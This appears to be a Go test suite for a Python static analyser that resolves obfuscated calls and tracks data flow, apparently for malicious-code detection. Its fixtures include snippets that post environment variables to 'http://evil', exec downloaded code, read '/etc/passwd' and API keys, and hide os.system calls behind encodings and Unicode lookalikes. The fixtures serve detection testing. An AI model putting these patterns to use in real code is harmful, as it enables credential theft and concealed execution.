package python

import (
	"errors"
	"strconv"
	"strings"
	"testing"
)

func mustParse(t *testing.T, src string) *Module {
	t.Helper()
	m, err := Parse([]byte(src))
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	return m
}

func callNames(m *Module) []string {
	var out []string
	for _, c := range m.Calls {
		out = append(out, c.Name)
	}
	return out
}

func hasCall(m *Module, name string) *Call {
	for _, c := range m.Calls {
		if c.Name == name {
			return c
		}
	}
	return nil
}

func countCalls(m *Module, name string) int {
	n := 0
	for _, c := range m.Calls {
		if c.Name == name {
			n++
		}
	}
	return n
}

func TestTokenizeStrings(t *testing.T) {
	src := `a = rb'\x41' + f"x{y!r:>{w}}z" + '''tri
ple''' + "esc\x41\n" + u'\u00e9' + B"\101"
# comment "not a string"
b = f"{d["k"]}" ; c = 'open
`
	tk, err := Tokenize([]byte(src))
	if err != nil {
		t.Fatal(err)
	}
	var vals []string
	var flags []uint8
	for i, x := range tk.Toks {
		if x.Kind == String {
			v, _ := tk.Value(i)
			vals = append(vals, v)
			flags = append(flags, x.Flags)
		}
	}
	want := []string{`\x41`, "xz", "tri\nple", "escA\n", "é", "A", "", "k", "open"}
	if strings.Join(vals, "|") != strings.Join(want, "|") {
		t.Fatalf("values = %q, want %q", vals, want)
	}
	if flags[0]&(FlagBytes|FlagRaw) != FlagBytes|FlagRaw || flags[1]&FlagInterp == 0 || flags[2]&FlagTriple == 0 {
		t.Errorf("flags = %v", flags)
	}
	if flags[6]&FlagInterp == 0 || flags[8]&FlagUnterminated == 0 {
		t.Errorf("nested f-string or unterminated flags wrong: %v", flags)
	}
	if len(tk.Comments) != 1 || !strings.HasPrefix(tk.Src[tk.Comments[0].Start:], "# comment") {
		t.Errorf("comments = %v", tk.Comments)
	}
	// offsets are byte offsets into the source
	for i, x := range tk.Toks {
		if x.Kind == Name && tk.Text(i) == "c" {
			if !strings.HasPrefix(src[x.Start:], "c = 'open") {
				t.Errorf("offset of c wrong: %d", x.Start)
			}
		}
	}
}

func TestFStringFields(t *testing.T) {
	m := mustParse(t, "import os\nx = f\"run {os.environ['HOME']!r:>{width}} {g(y)=}\"\ny = 1\n")
	var names []string
	for _, r := range m.Refs {
		names = append(names, r.Name)
	}
	if got := strings.Join(names, " "); got != "x os.environ width g y y" {
		t.Errorf("refs = %q", got)
	}
	if len(m.Assigns["x"]) != 1 || len(m.Assigns["y"]) != 1 {
		t.Errorf("assigns = %v", m.Assigns)
	}
	deep := "x = " + strings.Repeat("f'{(", 20) + "1" + strings.Repeat(")}'", 20)
	if _, err := Tokenize([]byte(deep)); !errors.Is(err, ErrTooDeep) {
		t.Errorf("nested f-strings: err = %v", err)
	}
}

func TestTokenizeLogicalLines(t *testing.T) {
	src := "x = (1,\n  2)\ny = 3 \\\n  + 4\nif x:\n\tz = 1\n"
	tk, err := Tokenize([]byte(src))
	if err != nil {
		t.Fatal(err)
	}
	nl := 0
	for _, x := range tk.Toks {
		if x.Kind == Newline {
			nl++
		}
	}
	if nl != 4 {
		t.Errorf("logical lines = %d, want 4", nl)
	}
	for i := range tk.Toks {
		if tk.Text(i) == "z" && tk.Indent[i] != 8 {
			t.Errorf("indent of z = %d, want 8", tk.Indent[i])
		}
	}
}

func TestUnterminatedAtEOF(t *testing.T) {
	for _, src := range []string{"x = '''never closed\nmore", "x = 'abc", `x = f"{a`} {
		if _, err := Parse([]byte(src)); err != nil {
			t.Errorf("%q: %v", src, err)
		}
	}
}

func TestDepthLimit(t *testing.T) {
	src := "x = " + strings.Repeat("(", MaxDepth+1) + strings.Repeat(")", MaxDepth+1)
	_, err := Tokenize([]byte(src))
	if !errors.Is(err, ErrTooDeep) {
		t.Fatalf("err = %v, want ErrTooDeep", err)
	}
	var e *Error
	if !errors.As(err, &e) || e.Offset != 4+MaxDepth {
		t.Errorf("error offset: %v", err)
	}
	ok := "x = " + strings.Repeat("[", MaxDepth) + strings.Repeat("]", MaxDepth)
	if _, err := Tokenize([]byte(ok)); err != nil {
		t.Errorf("depth %d refused: %v", MaxDepth, err)
	}
	fdeep := "x = f'" + strings.Repeat("{(", MaxDepth) + "'"
	if _, err := Tokenize([]byte(fdeep)); !errors.Is(err, ErrTooDeep) {
		t.Errorf("f-string nesting: err = %v", err)
	}
}

func TestAliases(t *testing.T) {
	src := `import subprocess as sp, os.path
from os import system as s, popen
from base64 import *
o = __import__('o' + 's')
il = importlib.import_module(''.join(['sub', 'process']))
ex = getattr(__builtins__, 'ex' + 'ec')
ev = __builtins__.__dict__['ev' + 'al']
run = sp.run
sp.call(['ls'])
s('id')
popen('id')
o.system('id')
il.Popen('id', shell=True)
ex('1')
ev('2')
run(['git'])
getattr(o, 'sys' + 'tem')('x')
__import__('subprocess').check_output('x', shell=True)
builtins.exec('y')
os.path.join('a')
`
	m := mustParse(t, src)
	for _, n := range []string{"subprocess.call", "os.system", "os.popen", "subprocess.Popen", "exec", "eval", "subprocess.run", "subprocess.check_output", "os.path.join"} {
		if hasCall(m, n) == nil {
			t.Errorf("no call %s in %v", n, callNames(m))
		}
	}
	if got := len(m.StarImports); got != 1 || m.StarImports[0] != "base64" {
		t.Errorf("star imports = %v", m.StarImports)
	}
	c := hasCall(m, "subprocess.Popen")
	if kw, ok := c.Kwarg("shell"); !ok || m.ArgText(kw) != "True" {
		t.Errorf("shell kwarg: %v %v", kw, ok)
	}
	if sys := countCalls(m, "os.system"); sys != 3 {
		t.Errorf("os.system calls = %d, want 3 (s, o.system, getattr)", sys)
	}
}

func TestFold(t *testing.T) {
	cases := map[string]string{
		`'a' 'b' + "c"`:       "abc",
		`''.join(['o', 's'])`: "os",
		`"".join(chr(c) for c in [101, 120, 101, 99])`:              "exec",
		`''.join(map(chr, [0x65, 0o166, 97, 108]))`:                 "eval",
		`bytes.fromhex('6f73').decode()`:                            "os",
		`base64.b64decode('aW1wb3J0IG9z').decode('utf-8')`:          "import os",
		`b64decode(b'aW1wb3J0IG9z')`:                                "import os",
		`'metsys'[::-1]`:                                            "system",
		`codecs.decode('flfgrz', 'rot13')`:                          "system",
		`bytes([105, 100])`:                                         "id",
		`name + '.py'`:                                              "tool.py",
		`zlib.decompress(base64.b64decode('eJwrriwuSc0FAAl0AqY='))`: "system",
		`('ab' + 'cd')[1:3]`:                                        "bc",
		`'x'.replace('x', 'os')`:                                    "os",
		`codecs.decode('6964', 'hex')`:                              "id",
		// XOR decoders and base85
		`base64.b85decode('X>D+Ca&#bXa{')`:                                                 "import os",
		`bytes(c ^ k[i % len(k)] for i, c in enumerate(base64.b64decode('Al4JBEENS1wK')))`: "import os",
		`''.join(chr(ord(c) ^ 0x20) for c in 'OS')`:                                        "os",
		`bytes([c ^ 32 for c in b'OS'])`:                                                   "os",
		`bytes(a ^ b for a, b in zip(b'\x02\x5c', itertools.cycle(b'k3y')))`:               "io",
		`''.join(chr(int(x) - 1) for x in ['112', '116'])`:                                 "os",
		`bytes((c - 1) % 256 for c in b'jnqpsu')`:                                          "import",
	}
	for expr, want := range cases {
		src := "import base64, codecs, zlib, itertools\nfrom base64 import b64decode\nname = 'tool'\nk = b'k3y'\nv = " + expr + "\n"
		m := mustParse(t, src)
		as := m.Assigns["v"]
		if len(as) != 1 {
			t.Fatalf("%s: assigns %v", expr, as)
		}
		got, ok := m.Fold(as[0].Start, as[0].End)
		if !ok || got != want {
			t.Errorf("Fold(%s) = %q, %v; want %q", expr, got, ok, want)
		}
	}
	for _, expr := range []string{`f"{x}"`, `input()`, `x + 'a'`, `'a' * 3`, `open('f').read()`} {
		m := mustParse(t, "v = "+expr+"\n")
		as := m.Assigns["v"]
		if got, ok := m.Fold(as[0].Start, as[0].End); ok {
			t.Errorf("Fold(%s) = %q, want not constant", expr, got)
		}
	}
}

func TestFoldCycleAndBudget(t *testing.T) {
	m := mustParse(t, "a = b\nb = a\nv = a + 'x'\n")
	as := m.Assigns["v"][0]
	if _, ok := m.Fold(as.Start, as.End); ok {
		t.Error("cyclic fold succeeded")
	}
	var sb strings.Builder
	sb.WriteString("a0 = '" + strings.Repeat("x", 4096) + "'\n")
	for i := 1; i < 400; i++ {
		sb.WriteString("a" + strconv.Itoa(i) + " = a" + strconv.Itoa(i-1) + " + a" + strconv.Itoa(i-1) + "\n")
	}
	m = mustParse(t, sb.String())
	last := m.Assigns["a399"][0]
	if _, ok := m.Fold(last.Start, last.End); ok {
		t.Error("exponential fold not cut off")
	}
}

func TestDerives(t *testing.T) {
	src := `import os, requests, json
env = dict(os.environ)
payload = {'host': 'x'}
payload['env'] = env
body = json.dumps(payload)
def fetch(u):
    r = requests.get(u)
    return r.text
class C:
    def __init__(self):
        self.data = fetch('http://x')
    def run(self):
        exec(self.data)
with open('/etc/passwd') as fh:
    content = fh.read()
for k in os.environ:
    line = k
requests.post('http://evil', data=body)
eval(fetch('u'))
print(content, line)
`
	m := mustParse(t, src)
	isEnv := func(r Ref) bool { return r.Name == "os.environ" }
	isGet := func(r Ref) bool { return r.Name == "requests.get" }
	isOpen := func(r Ref) bool { return r.Name == "open" }
	post := hasCall(m, "requests.post")
	data, _ := post.Kwarg("data")
	if _, ok := m.Derives("env", data.Start, data.End, isEnv); !ok {
		t.Error("post data does not derive from os.environ")
	}
	ex := hasCall(m, "exec")
	if _, ok := m.Derives("get", ex.Open+1, ex.Close, isGet); !ok {
		t.Error("exec(self.data) does not derive from requests.get")
	}
	ev := hasCall(m, "eval")
	if _, ok := m.Derives("get", ev.Open+1, ev.Close, isGet); !ok {
		t.Error("eval(fetch()) does not derive from requests.get")
	}
	pr := hasCall(m, "print")
	a0, _ := pr.Positional(0)
	if _, ok := m.Derives("open", a0.Start, a0.End, isOpen); !ok {
		t.Error("content does not derive from open")
	}
	a1, _ := pr.Positional(1)
	if _, ok := m.Derives("env", a1.Start, a1.End, isEnv); !ok {
		t.Error("loop variable does not derive from os.environ")
	}
	if _, ok := m.Derives("env", a0.Start, a0.End, isEnv); ok {
		t.Error("content derives from os.environ")
	}
}

// A keyword argument's name (f(note="hi")) and a parameter's default
// (def f(data=None)) name the callee's parameter, not the caller's
// variable: neither derives from an unrelated "note"; the value passed
// (f(note=note)) does.
func TestKeywordNamesAreNotReads(t *testing.T) {
	src := `note = p.read_text()

def two(q=None, data=None):
    send(make(note="hi"), data=data)
    send(make(body=note))
    relay(make(note=note))
`
	m := mustParse(t, src)
	isRead := func(r Ref) bool { return r.Call && r.Name == "p.read_text" }
	var sends []*Call
	for _, c := range m.Calls {
		if c.Name == "send" || c.Name == "relay" {
			sends = append(sends, c)
		}
	}
	if len(sends) != 3 {
		t.Fatalf("calls: %d", len(sends))
	}
	if _, ok := m.Derives("k", sends[0].Open+1, sends[0].Close, isRead); ok {
		t.Error(`make(note="hi") derives from the read`)
	}
	if _, ok := m.Derives("k", sends[1].Open+1, sends[1].Close, isRead); !ok {
		t.Error("make(body=note) does not derive from the read")
	}
	if _, ok := m.Derives("k", sends[2].Open+1, sends[2].Close, isRead); !ok {
		t.Error("make(note=note) does not derive from the read")
	}
}

func TestRefKeys(t *testing.T) {
	m := mustParse(t, "import os\nk = os.environ['OPENAI_API_KEY']\nj = os.getenv('X')\n")
	found := false
	for _, r := range m.Refs {
		if r.Name == "os.environ" && r.HasKey && r.Key == "OPENAI_API_KEY" {
			found = true
		}
	}
	if !found {
		t.Errorf("no keyed os.environ ref in %+v", m.Refs)
	}
}

func TestResolutionEvasions(t *testing.T) {
	src := `import os, sys
from subprocess import *
os.__dict__['sys' + 'tem']('id')
vars(os)['popen']('id')
sys.modules['o' + 's'].system('id')
check_output('id', shell=True)
globals()['__builtins__']
`
	m := mustParse(t, src)
	for _, n := range []string{"os.system", "os.popen", "subprocess.check_output"} {
		if hasCall(m, n) == nil {
			t.Errorf("no call %s in %v", n, callNames(m))
		}
	}
	if sys := countCalls(m, "os.system"); sys != 2 {
		t.Errorf("os.system calls = %d, want 2", sys)
	}
}

func TestTokenKinds(t *testing.T) {
	src := "@decorator\ndef f(a: int = 1_000, *, b=0x_FF) -> float:\r\n    x = 1e-5 + 2j + .5\r\n    y **= 2; z := 3\n    café = 'ü'\n"
	tk, err := Tokenize([]byte(src))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for i, x := range tk.Toks {
		if x.Kind == Newline {
			got = append(got, "NL")
			continue
		}
		got = append(got, x.Kind.String()[:2]+":"+tk.Text(i))
	}
	want := "Op:@ Na:decorator NL Na:def Na:f Op:( Na:a Op:: Na:int Op:= Nu:1_000 Op:, Op:* Op:, Na:b Op:= Nu:0x_FF Op:) Op:-> Na:float Op:: NL " +
		"Na:x Op:= Nu:1e-5 Op:+ Nu:2j Op:+ Nu:.5 NL Na:y Op:**= Nu:2 Op:; Na:z Op::= Nu:3 NL Na:café Op:= St:'ü' NL"
	if g := strings.Join(got, " "); g != want {
		t.Errorf("tokens:\n got %s\nwant %s", g, want)
	}
}

func TestAssignments(t *testing.T) {
	src := `import os
a: dict = {}
b = c = os.environ
d, (e, f) = 1, (2, 3)
g += os.getenv("X")
if (h := os.environ.get("Y")):
    pass
with open("p") as fh, open("q") as (x1, x2):
    pass
payload.update(os.environ)
items.append(1)
def outer():
    def inner():
        return os.environ
    return 1
if True: k = lambda v: v
async for z in stream(): pass
`
	m := mustParse(t, src)
	for name, n := range map[string]int{"a": 1, "b": 1, "c": 1, "d": 1, "e": 1, "f": 1, "g": 1, "h": 1, "fh": 1, "x1": 1,
		"x2": 1, "payload": 1, "items": 1, "inner()": 1, "outer()": 1, "k": 1, "z": 1} {
		if got := len(m.Assigns[name]); got != n {
			t.Errorf("assignments of %s = %d, want %d", name, got, n)
		}
	}
	env := func(r Ref) bool { return strings.HasPrefix(r.Name, "os.environ") || r.Name == "os.getenv" }
	for _, v := range []string{"b", "c", "g", "h", "payload", "inner()"} {
		if _, ok := m.DerivesVar("env", v, env); !ok {
			t.Errorf("%s does not derive from the environment", v)
		}
	}
	for _, v := range []string{"a", "d", "fh", "items", "outer()", "k"} {
		if _, ok := m.DerivesVar("env", v, env); ok {
			t.Errorf("%s derives from the environment", v)
		}
	}
	if !m.Assigns["g"][0].Aug || !m.Assigns["payload"][0].Aug {
		t.Error("augmented assignment or mutation not marked Aug")
	}
}

func TestDisguisedNames(t *testing.T) {
	// fullwidth exec, mathematical bold "os", mathematical sans "system"
	src := "import 𝐨𝐬\nｅｘｅｃ('1')\n𝐨𝐬.𝗌𝗒𝗌𝗍𝖾𝗆('id')\n"
	m := mustParse(t, src)
	for _, n := range []string{"exec", "os.system"} {
		c := hasCall(m, n)
		if c == nil {
			t.Fatalf("no call %s in %v", n, callNames(m))
		}
		if !m.Disguised(c.Head) {
			t.Errorf("%s: head not marked disguised", n)
		}
		if s, _ := m.Span(c); !strings.HasPrefix(src[s:], "ｅ") && !strings.HasPrefix(src[s:], "𝐨") {
			t.Errorf("%s: span does not point at the source", n)
		}
	}
	if m.Disguised(0) {
		t.Error("keyword import marked disguised")
	}
}

func TestShadowedBuiltins(t *testing.T) {
	m := mustParse(t, "def compile(x):\n    return x\neval = lambda s: s\ncompile('a')\neval('b')\nexec('c')\n")
	if hasCall(m, "exec") == nil {
		t.Error("builtin exec not resolved")
	}
	for _, c := range m.Calls {
		if _, isVar := m.resolveHead(c.Head); (c.Name == "compile" || c.Name == "eval") && !isVar {
			t.Errorf("%s resolved to the builtin although it is defined locally", c.Name)
		}
	}
}

func TestLine(t *testing.T) {
	m := mustParse(t, "a = 1\nb = 2\r\n\nc = 3")
	for off, want := range map[int]int{0: 1, 5: 1, 6: 2, 13: 3, 14: 4, 18: 4} {
		if got := m.Line(off); got != want {
			t.Errorf("Line(%d) = %d, want %d", off, got, want)
		}
	}
}

func TestDerivesScopesAndParameters(t *testing.T) {
	src := `import os, requests, subprocess
def run(cmd):
    return subprocess.run(cmd, capture_output=True, env={**os.environ}).stdout
def fetch():
    cmd = requests.get('http://x').text
    return cmd
def main():
    code = requests.get('http://y').text
    run(code)
def tool(cmd):
    exec(cmd)
def status():
    out = run(['git', 'status'])
    print(out)
`
	m := mustParse(t, src)
	isGet := func(r Ref) bool { return strings.HasPrefix(r.Name, "requests.get") }
	isEnv := func(r Ref) bool { return r.Name == "os.environ" }
	calls := func(name string) []*Call {
		var out []*Call
		for _, c := range m.Calls {
			if c.Name == name {
				out = append(out, c)
			}
		}
		return out
	}
	// run's cmd is what main passes: a download
	sp := calls("subprocess.run")[0]
	a0, _ := sp.Positional(0)
	if _, ok := m.Derives("get", a0.Start, a0.End, isGet); !ok {
		t.Error("run(cmd) does not follow the caller's argument to requests.get")
	}
	// tool's cmd is a parameter nobody passes a download to; fetch's local
	// cmd is another variable
	ex := calls("exec")[0]
	if r, ok := m.Derives("get", ex.Open+1, ex.Close, isGet); ok {
		t.Errorf("exec(cmd) in tool tied to another function's cmd (%s)", r.Name)
	}
	// a process's output does not derive from the environment it was given
	pr := calls("print")[0]
	p0, _ := pr.Positional(0)
	if r, ok := m.Derives("env", p0.Start, p0.End, isEnv); ok {
		t.Errorf("subprocess output tied to its env= argument (%s)", r.Name)
	}
	if b, _ := m.Bindings("cmd", ex.Open); b != nil {
		t.Errorf("Bindings of parameter cmd in tool = %d assignments, want none", len(b))
	}
}

func TestClassAttributes(t *testing.T) {
	m := mustParse(t, "class R:\n    URL = 'https://x.invalid/c'\n    def send(self):\n        return self.URL\n")
	if as := m.Assigns["self.URL"]; len(as) != 1 {
		t.Fatalf("class attribute not bound to self.URL: %+v", m.Assigns)
	}
	if as := m.Assigns["URL"]; len(as) != 1 {
		t.Errorf("class attribute lost its plain binding")
	}
}

func TestDerivesObject(t *testing.T) {
	src := `import requests
def make():
    return requests.Session()
s = requests.Session()
alias = s
made = make()
kept = self.session
resp = s.post("u")
part = resp["error"]
body = resp.json()
`
	m := mustParse(t, src)
	client := func(r Ref) bool { return r.Call && strings.HasSuffix(r.Name, "Session") }
	for _, v := range []string{"s", "alias", "made"} {
		if _, ok := m.DerivesObject("client", v, client); !ok {
			t.Errorf("%s does not hold the client", v)
		}
	}
	for _, v := range []string{"resp", "part", "body"} {
		if _, ok := m.DerivesObject("client", v, client); ok {
			t.Errorf("%s holds the client: a method's result is not its receiver", v)
		}
		if _, ok := m.DerivesVar("client", v, client); !ok {
			t.Errorf("%s does not derive from the client's data", v)
		}
	}
}
